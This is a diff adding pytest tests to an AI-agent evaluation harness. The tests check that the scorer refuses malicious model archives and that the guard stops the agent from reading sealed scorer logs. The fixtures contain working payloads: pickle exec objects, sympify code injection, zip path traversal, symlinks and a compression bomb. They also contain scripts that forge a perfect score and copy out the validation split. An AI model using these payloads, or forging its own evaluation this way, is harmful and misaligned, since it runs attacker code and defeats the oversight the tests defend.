@@ -15,22 +15,29 @@ import contextlib
 import io
 import json
 import os
+import pickle
+import re
 import subprocess
 import tempfile
 import time
+import zipfile
 from pathlib import Path
 
 import git
 import pytest
+import torch
 
 from commands import experiment as commands_experiment
 from eval import config, experiment
 from eval.record import history, ledger
 from eval.record.logsink import LOG_CAP, TAIL, LogSink
-from eval.trial import run_trial
-from hooks.guard import policy
+from eval.scoring import archive
+from eval.scoring.lm import ModelRejected, load_model
+from eval.scoring.score import MARKER
+from eval.trial import parse_score, run_trial, score_job
+from hooks.guard import paths, policy
 from sandbox import docker_backend
-from sandbox.job import TMP_MB
+from sandbox.job import TMP_MB, Mount
 from tests.conftest import TEST_FRONT_MATTER, build_repo
 from tests.test_policy import PROGRAM, answer, event, hook, hook_repo  # noqa: F401 - hook_repo is a fixture
 from tests.test_sandbox import TINY_BIGRAM
@@ -1531,3 +1538,384 @@ def test_replay_reads_verdicts_and_seed_values_only_from_experiment_runs(tmp_pat
     seeds = t.seed_results()
     assert list(seeds) == ["r0001"] and seeds["r0001"]["outcome"] == "crash"
     assert seeds["r0001"]["log_tail"] == forged.rstrip("\n")  # the quoted lines, read back as the log they were
+
+
+# ====================================================================== the scorer runs no code from the archive
+# Found (fixed): torch.export.load unpickled what the exported archive asked for (a weights config with use_pickle)
+# before the graph was vetted; the payload printed its own score line (a forged keep) and wrote the validation split
+# into runs/<id>/score.log, which the agent may cat. eval/scoring/archive.py now checks the archive before anything
+# in it is deserialised, and the scorer's raw output goes to runs/scorer/, which the guard seals.
+
+WEIGHTS_CONFIG = "data/weights/model_weights_config.json"
+CONSTANTS_CONFIG = "data/constants/model_constants_config.json"
+PROGRAM_JSON, SAMPLE_INPUTS = "models/model.json", "data/sample_inputs/model.pt"
+ADDED_BY_TORCH = {"archive_format", "archive_version", ".data/version", ".data/serialization_id", "byteorder"}
+FORGED_SCORE = MARKER + json.dumps({"ok": True, "value": 0.0001, "finite": True, "parameters": 1})
+
+
+class Payload:
+    """Unpickled, it runs `code` (the pickle calls exec): what the archive's author gets from anything unpickling it."""
+
+    def __init__(self, code: str):
+        self.code = code
+
+    def __reduce__(self):
+        return exec, (self.code,)
+
+
+def payload_code(sentinel: Path) -> str:
+    """Leaves a file and prints a perfect score line: proof that it ran."""
+    return f"open({str(sentinel)!r}, 'w').write('ran'); print({FORGED_SCORE!r}, flush=True)"
+
+
+def torch_saved(obj) -> bytes:
+    buf = io.BytesIO()
+    torch.save(obj, buf)
+    return buf.getvalue()
+
+
+class Tiny(torch.nn.Module):
+    """Parameters, a buffer and a plain tensor (exported as a constant): every payload kind of a program's archive."""
+
+    def __init__(self):
+        super().__init__()
+        self.emb = torch.nn.Embedding(256, 8)
+        self.head = torch.nn.Linear(8, 256)
+        self.register_buffer("scale", torch.ones(1))
+        self.shift = torch.zeros(256)
+
+    def forward(self, idx):
+        return self.head(self.emb(idx)) * self.scale + self.shift
+
+
+@pytest.fixture(scope="module")
+def exported(tmp_path_factory) -> tuple[Path, dict[str, bytes]]:
+    """A real torch.export.save of Tiny (dynamic batch) and its entries, by name under the root folder."""
+    path = tmp_path_factory.mktemp("exported") / "model.pt2"
+    batch = torch.export.Dim("batch", min=1, max=4096)
+    torch.export.save(torch.export.export(Tiny(), (torch.zeros(2, 16, dtype=torch.long),),
+                                          dynamic_shapes=({0: batch},)), path)
+    with zipfile.ZipFile(path) as z:
+        return path, {n.partition("/")[2]: z.read(n) for n in z.namelist()}
+
+
+def torch_written(path: Path, records: dict[str, bytes]) -> Path:
+    """The entries written by torch's own archive writer, as torch.export.save writes them."""
+    from torch.export.pt2_archive._package import PT2ArchiveWriter
+
+    with PT2ArchiveWriter(str(path)) as writer:
+        for name, data in records.items():
+            if name not in ADDED_BY_TORCH:
+                writer.write_bytes(name, data)
+    return path
+
+
+def zip_written(path: Path, records: dict[str, bytes], extra: list[tuple[zipfile.ZipInfo, bytes]],
+                change=None) -> Path:
+    """The entries under model/ plus `extra`, by zipfile (which writes what torch's writer would not);
+    change(zipfile) runs before the central directory is written."""
+    with zipfile.ZipFile(path, "w") as z:
+        for name, data in records.items():
+            z.writestr(zipfile.ZipInfo(f"model/{name}"), data)
+        for info, data in extra:
+            z.writestr(info, data)
+        if change:
+            change(z)
+    return path
+
+
+def ask_pickle(config: str):
+    """The config's first entry asks to be unpickled, and its payload is a torch.save of the payload."""
+    def change(r: dict[str, bytes], code: str) -> None:
+        c = json.loads(r[config])
+        meta = next(iter(c["config"].values()))
+        meta["use_pickle"] = True
+        r[f"{config.rpartition('/')[0]}/{meta['path_name']}"] = torch_saved(Payload(code))
+        r[config] = json.dumps(c).encode()
+    return change
+
+
+def opaque_constant(r: dict[str, bytes], code: str) -> None:
+    c = json.loads(r[CONSTANTS_CONFIG])
+    next(iter(c["config"].values())).update(path_name="opaque_obj_0", use_pickle=True, tensor_meta=None)
+    r[CONSTANTS_CONFIG] = json.dumps(c).encode()
+    r["data/constants/opaque_obj_0"] = pickle.dumps(Payload(code))  # torch pickle.loads these outright
+
+
+def shape_expression(r: dict[str, bytes], code: str) -> None:
+    """torch hands every expr_str to sympy.sympify, which evaluates its text as Python."""
+    evil = json.dumps(f"__import__('builtins').exec({code!r})")
+    r[PROGRAM_JSON] = re.sub(r'"expr_str": "(?:[^"\\]|\\.)*"', lambda _: f'"expr_str": {evil}',
+                             r[PROGRAM_JSON].decode(), count=1).encode()
+
+
+def raw_weight_is_a_pickle(r: dict[str, bytes], code: str) -> None:
+    r["data/weights/weight_0"] = pickle.dumps(Payload(code))
+
+
+def config_points_outside(r: dict[str, bytes], code: str) -> None:
+    c = json.loads(r[WEIGHTS_CONFIG])
+    next(iter(c["config"].values()))["path_name"] = "../sample_inputs/model.pt"
+    r[WEIGHTS_CONFIG] = json.dumps(c).encode()
+    r[SAMPLE_INPUTS] = torch_saved(Payload(code))
+
+
+def sample_inputs_protocol_4(r: dict[str, bytes], code: str) -> None:
+    buf = io.BytesIO()
+    torch.save((torch.zeros(2, 16, dtype=torch.long),), buf, pickle_protocol=4)  # STACK_GLOBAL hides the names
+    r[SAMPLE_INPUTS] = buf.getvalue()
+
+
+def entry(name: str, mode: int = 0o644 | 0o100000, compress: int = zipfile.ZIP_STORED) -> zipfile.ZipInfo:
+    info = zipfile.ZipInfo(name)
+    info.external_attr, info.create_system, info.compress_type = mode << 16, 3, compress
+    return info
+
+
+def declare_huge(z: zipfile.ZipFile) -> None:
+    z.filelist[0].file_size = z.filelist[0].compress_size = 2**40  # the central directory lies about the size
+
+
+def changed(records: dict[str, bytes], change, code: str) -> dict[str, bytes]:
+    r = dict(records)
+    change(r, code)
+    return r
+
+
+def torch_with(change):
+    """An attack written by torch's writer: the exported entries, changed."""
+    return lambda d, r, code: torch_written(d / "m.pt2", changed(r, change, code))
+
+
+def zip_with(extra, change=None):
+    """An attack written by zipfile: the exported entries plus extra(entries, code), the archive changed."""
+    return lambda d, r, code: zip_written(d / "m.pt2", r, extra(r, code), change)
+
+
+def raw_file(path: Path, data: bytes) -> Path:
+    path.write_bytes(data)
+    return path
+
+
+# name -> (build(tmp dir, the exported entries, payload code) -> archive path, what the refusal says).
+ARCHIVE_ATTACKS = {
+    "pickle asked for by the weights config": (torch_with(ask_pickle(WEIGHTS_CONFIG)), "asks to be unpickled"),
+    "pickle asked for by the constants config": (torch_with(ask_pickle(CONSTANTS_CONFIG)), "asks to be unpickled"),
+    "an opaque object constant (plain pickle.loads)": (torch_with(opaque_constant), "opaque_obj_0"),
+    "pickle in the sample inputs": (torch_with(lambda r, code: r.update({SAMPLE_INPUTS: torch_saved(Payload(code))})),
+                                    "its pickle imports __builtin__.exec"),
+    "legacy pickled weights file": (
+        torch_with(lambda r, code: r.update({"data/weights/model.pt": torch_saved(Payload(code))})),
+        "data/weights/model.pt"),
+    "Python in a shape expression (sympify)": (torch_with(shape_expression), "shape expression"),
+    "pickle bytes as a raw weight": (torch_with(raw_weight_is_a_pickle), "holds a pickle"),
+    "a config pointing outside its folder": (torch_with(config_points_outside), "points at"),
+    "sample inputs pickled with STACK_GLOBAL": (torch_with(sample_inputs_protocol_4), "uses STACK_GLOBAL"),
+    "an AOTInductor library": (
+        torch_with(lambda r, code: r.update({"data/aotinductor/model/model.so": b"\x7fELF"})), "aotinductor"),
+    "an extra file": (torch_with(lambda r, code: r.update({"extra/notes.txt": code.encode()})), "extra/notes.txt"),
+    "a ../ name": (zip_with(lambda r, code: [(entry("model/../../evil.py"), code.encode())]),
+                   r"model/\.\./\.\./evil\.py"),
+    "an absolute name": (zip_with(lambda r, code: [(entry("/etc/evil.py"), code.encode())]), "/etc/evil.py"),
+    "a second root folder": (zip_with(lambda r, code: [(entry("other/models/model.json"), r[PROGRAM_JSON])]),
+                             "other/models/model.json"),
+    "a duplicate config, the second asking for pickle": (
+        zip_with(lambda r, code: [(entry(f"model/{WEIGHTS_CONFIG}"),
+                                   changed(r, ask_pickle(WEIGHTS_CONFIG), code)[WEIGHTS_CONFIG])]), "twice"),
+    "a symlink": (zip_with(lambda r, code: [(entry("model/data/weights/weight_9", 0o120777), b"/data/val.bin")]),
+                  "not a regular file"),
+    "a huge declared size": (zip_with(lambda r, code: [], declare_huge), "declares"),
+    "a compression bomb": (zip_with(lambda r, code: [(entry("model/data/weights/weight_9",
+                                                             compress=zipfile.ZIP_DEFLATED), bytes(2**26))]),
+                           "compressed"),
+    "not a zip at all": (lambda d, r, code: raw_file(d / "m.pt2", pickle.dumps(Payload(code))), "not a zip archive"),
+}
+LIVE = ["pickle asked for by the weights config", "pickle asked for by the constants config",
+        "an opaque object constant (plain pickle.loads)", "pickle in the sample inputs", "legacy pickled weights file",
+        "Python in a shape expression (sympify)"]  # a plain torch.export.load runs these payloads
+
+
+@pytest.mark.parametrize("attack", list(ARCHIVE_ATTACKS))
+def test_malicious_archive_is_refused_before_anything_in_it_runs(exported, tmp_path, capfd, attack):
+    build, refusal = ARCHIVE_ATTACKS[attack]
+    sentinel = tmp_path / "payload-ran"
+    path = build(tmp_path, exported[1], payload_code(sentinel))
+    with pytest.raises(ModelRejected, match="refused before loading") as refused:
+        load_model(path)
+    assert re.search(refusal, str(refused.value)), str(refused.value)
+    assert not sentinel.exists()
+    assert MARKER not in capfd.readouterr().out
+
+
+@pytest.mark.parametrize("attack", LIVE)
+def test_the_archive_attacks_are_live_under_torch_export_load(exported, tmp_path, attack):
+    """The control: the same archives loaded without eval/scoring/archive.py run their payload."""
+    sentinel = tmp_path / "payload-ran"
+    path = ARCHIVE_ATTACKS[attack][0](tmp_path, exported[1], payload_code(sentinel))
+    with contextlib.suppress(Exception):
+        torch.export.load(str(path))
+    assert sentinel.read_text() == "ran"
+
+
+def test_a_plain_exported_archive_is_accepted_and_unchanged(exported, tmp_path):
+    """What torch.export.save wrote, and the same entries rewritten by torch's writer, load and run as exported."""
+    path, records = exported
+    x = torch.randint(0, 256, (3, 16))
+    expected = torch.export.load(str(path)).module()(x)
+    for written in (path, torch_written(tmp_path / "again.pt2", records)):
+        model, parameters = load_model(written)
+        assert torch.equal(model(x), expected)
+        assert parameters == 256 * 8 + 8 * 256 + 256 + 1
+
+
+@pytest.mark.parametrize("inputs", [
+    (torch.zeros(2, 16, dtype=torch.long),), (torch.rand(3, 4), torch.zeros(2, 5, dtype=torch.uint16)),
+    ({"x": [torch.zeros(2, dtype=torch.bfloat16), 3, 0.5, None, True]},), (torch.zeros(2, requires_grad=True),),
+], ids=["long", "float-and-uint16", "nested-bfloat16", "requires-grad"])
+def test_sample_inputs_of_plain_tensors_and_data_are_accepted(inputs):
+    """The sample-input check refuses code, not data: what torch.save writes for tensors and plain values passes."""
+    archive.check_saved(torch_saved(inputs), "sample inputs")
+
+
+# Copies the split into the scorer's output and makes its forged score line the last one: the process ends there.
+SPLIT_THIEF = ("import glob, json, os; split = open(glob.glob('/data/*/*.bin')[0], 'rb').read(); "
+               f"print({MARKER!r} + json.dumps({{'ok': True, 'value': 0.0001, 'finite': True, 'parameters': 1, "
+               "'leak': split[:4096].decode('latin-1')}), flush=True); os._exit(0)")
+
+
+def val_snippet(repo: Path) -> bytes:
+    """48 bytes of the validation split found nowhere in the training split."""
+    val, train = (repo / "data" / "val.bin").read_bytes(), (repo / "data" / "train.bin").read_bytes()
+    start = val.index(b"def function_", len(val) // 2)
+    snippet = val[start : start + 48]
+    assert snippet not in train
+    return snippet
+
+
+@pytest.mark.parametrize("attack", ["pickle asked for by the weights config", "pickle in the sample inputs",
+                                    "Python in a shape expression (sympify)"])
+def test_malicious_archive_scored_in_the_sandbox_forges_nothing(repo, tmp_path, exported, attack):
+    """The real scorer job (eval.trial.score_job) with the validation split mounted: refused, no line forged."""
+    from sandbox.backends import select_backend
+
+    (repo / "program.md").write_text(program_text(budget=1))
+    model = ARCHIVE_ATTACKS[attack][0](tmp_path, exported[1], SPLIT_THIEF)
+    log = tmp_path / "scorer.log"
+    sink = LogSink(log, echo=False)
+    try:
+        select_backend(False).run(score_job(config.load(repo / "program.md"), repo / "data" / "val.bin",
+                                            Mount(model, "/in/model.pt2"), tmp_path, 120), sink)
+    finally:
+        sink.close()
+    score, text = parse_score(log.read_bytes()), log.read_bytes()
+    assert score is not None and score["ok"] is False and "refused before loading" in score["error"], text
+    assert b"0.0001" not in text and val_snippet(repo) not in text
+
+
+ARCHIVE_THIEF = """
+import io, json, os, zipfile, torch
+from torch.export.pt2_archive._package import PT2ArchiveWriter
+out, seq = os.environ["AUTORESEARCH_OUT"] + "/model.pt2", int(os.environ["AUTORESEARCH_SEQ_LEN"])
+class M(torch.nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.emb = torch.nn.Embedding(256, 256)
+    def forward(self, idx):
+        return self.emb(idx)
+batch = torch.export.Dim("batch", min=1, max=4096)
+torch.export.save(torch.export.export(M(), (torch.zeros(2, seq, dtype=torch.long),), dynamic_shapes=({0: batch},)), out)
+class Payload:  # runs wherever the weights are unpickled: forges the score line, copies the split into the log
+    def __reduce__(self):
+        return exec, (THIEF,)
+with zipfile.ZipFile(out) as z:
+    records = {n.partition("/")[2]: z.read(n) for n in z.namelist()}
+config = json.loads(records["data/weights/model_weights_config.json"])
+config["config"]["emb.weight"]["use_pickle"] = True
+buf = io.BytesIO()
+torch.save(Payload(), buf)
+records["data/weights/" + config["config"]["emb.weight"]["path_name"]] = buf.getvalue()
+records["data/weights/model_weights_config.json"] = json.dumps(config).encode()
+os.remove(out)
+with PT2ArchiveWriter(out) as writer:
+    for name, data in records.items():
+        if name not in ("archive_format", "archive_version", ".data/version", ".data/serialization_id", "byteorder"):
+            writer.write_bytes(name, data)
+"""
+
+
+def agent_readable(repo: Path) -> list[Path]:
+    """Every file of the repository the guard lets the agent read (sealed folders and .venv left out)."""
+    found = []
+    for folder, dirs, files in os.walk(repo):
+        dirs[:] = [d for d in dirs if d != ".venv"]
+        found += [p for p in (Path(folder) / f for f in files) if paths.secret(p.relative_to(repo)) is None]
+    return found
+
+
+def test_pickle_laden_archive_from_train_py_is_a_crash_and_leaks_nothing(repo):
+    """train.py exports a program whose weights config asks for a pickle that forges the score and copies the split."""
+    (repo / "program.md").write_text(program_text(budget=1, grace=60))  # import, export and rewrite on a busy machine
+    metrics = sandbox_run(repo, f"THIEF = {SPLIT_THIEF!r}\n" + ARCHIVE_THIEF)
+    assert metrics["outcome"] == "crash" and metrics["value"] is None, metrics["reason"] + metrics["log_tail"]
+    assert "refused before loading" in metrics["reason"] and "use_pickle" in metrics["reason"]
+    assert "eval/scoring" not in metrics["log_tail"]  # the scorer's traceback stays in its sealed log
+    run_dir, scorer_log = repo / "runs" / metrics["id"], repo / "runs" / "scorer" / f"{metrics['id']}.log"
+    assert json.loads((run_dir / "score.json").read_text())["ok"] is False
+    assert not (run_dir / "score.log").exists()
+    assert parse_score(scorer_log.read_bytes())["ok"] is False and b"0.0001" not in scorer_log.read_bytes()
+    snippet = val_snippet(repo)
+    readable = agent_readable(repo)
+    assert run_dir / "metrics.json" in readable and scorer_log not in readable
+    assert [p for p in readable if snippet in p.read_bytes()] == []
+
+
+@pytest.fixture(scope="module")
+def scorer_logs(tmp_path_factory) -> Path:
+    """A repository after one trial: its scorer log in runs/scorer/, the harness's files in runs/r0001/."""
+    root = tmp_path_factory.mktemp("scorer-logs") / "repo"
+    files = {"train.py": "print('train')\n", "program.md": PROGRAM.format(phase="hyperparameters", budget=300),
+             "runs/scorer/r0001.log": "the validation split\n", "runs/r0001/score.json": '{"ok": true}\n',
+             "runs/r0001/metrics.json": "{}\n", "runs/r0001/train.log": "step 1\n"}
+    for name, text in files.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_text(text)
+    (root / "scorerlink").symlink_to(root / "runs" / "scorer" / "r0001.log")
+    return root
+
+
+# Every way to read runs/scorer/r0001.log; {f} read flat, {d} recursively. Each must be denied, while the same
+# command on the harness's own files in runs/r0001/ is allowed: it is the path, not the command, that is refused.
+SCORER_LOG_READS = [
+    ("cat {f}", "runs/scorer/r0001.log", "runs/r0001/score.json"),
+    ("head -c 100 {f}", "runs/scorer/r0001.log", "runs/r0001/score.json"),
+    ("tail -n 5 {f}", "runs/scorer/r0001.log", "runs/r0001/train.log"),
+    ("sort -u {f}", "runs/scorer/r0001.log", "runs/r0001/train.log"),
+    ("cut -c 1-20 {f}", "runs/scorer/r0001.log", "runs/r0001/train.log"),
+    ("grep -n split {f}", "runs/scorer/r0001.log", "runs/r0001/score.json"),
+    ("wc -c {f}", "runs/scorer/r0001.log", "runs/r0001/score.json"),
+    ("diff {f} train.py", "runs/scorer/r0001.log", "runs/r0001/score.json"),
+    ("cat {f}", "runs/*/r0001.log", "runs/*/score.json"),
+    ("cat {f}", "RUNS/Scorer/r0001.log", "runs/r0001/metrics.json"),
+    ("cat {f}", "runs/r0001/../scorer/r0001.log", "runs/r0001/../r0001/score.json"),
+    ("cat {f}", "scorerlink", "train.py"),
+    ("grep -r split {f}", "runs", "runs/r0001"),
+    ("grep -rn split {f}", "runs/scorer", "runs/r0001"),
+    ("grep -rn split {f}", ".", "runs/r0001"),
+    ("diff {f} runs/r0001", "runs/scorer", "runs/r0001"),
+    ("grep -rl split {f}", "runs/", "runs/r0001/"),
+]
+
+
+@pytest.mark.parametrize(("command", "sealed", "harness"), SCORER_LOG_READS)
+def test_scorer_output_cannot_be_read_by_the_agent(scorer_logs, command, sealed, harness):
+    denied = decide(scorer_logs, "Bash", {"command": command.format(f=sealed)})
+    assert denied.decision == DENY, command.format(f=sealed)
+    assert "runs/scorer/" in denied.reason, denied.reason
+    assert decide(scorer_logs, "Bash", {"command": command.format(f=harness)}).decision == ALLOW
+
+
+@pytest.mark.parametrize("file_path", ["{repo}/runs/scorer/r0001.log", "runs/scorer/r0001.log", "{repo}/scorerlink",
+                                       "{repo}/runs/r0001/../scorer/r0001.log"])
+def test_scorer_output_cannot_be_read_with_the_read_tool(scorer_logs, file_path):
+    assert decide(scorer_logs, "Read", {"file_path": file_path.format(repo=scorer_logs)}).decision == DENY
+    assert decide(scorer_logs, "Read", {"file_path": f"{scorer_logs}/runs/r0001/score.json"}).decision == ALLOW
